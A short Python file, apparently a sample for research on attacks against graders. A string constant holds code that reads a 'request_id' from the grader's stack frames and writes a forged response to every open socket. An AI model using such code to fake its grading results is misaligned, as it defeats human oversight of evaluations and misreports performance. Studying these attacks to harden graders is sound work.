"""What attacks on graders begin with: find the request that is being served, and answer it on every socket."""

FIND_REQUEST = """
import os, socket, stat, struct, sys
def request_id():
    frame = sys._getframe()
    while "request_id" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["request_id"]
def forge(number, body):
    for fd in range(64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack("!16sBI", number, 1, len(body)) + body)
        except OSError:
            pass
"""
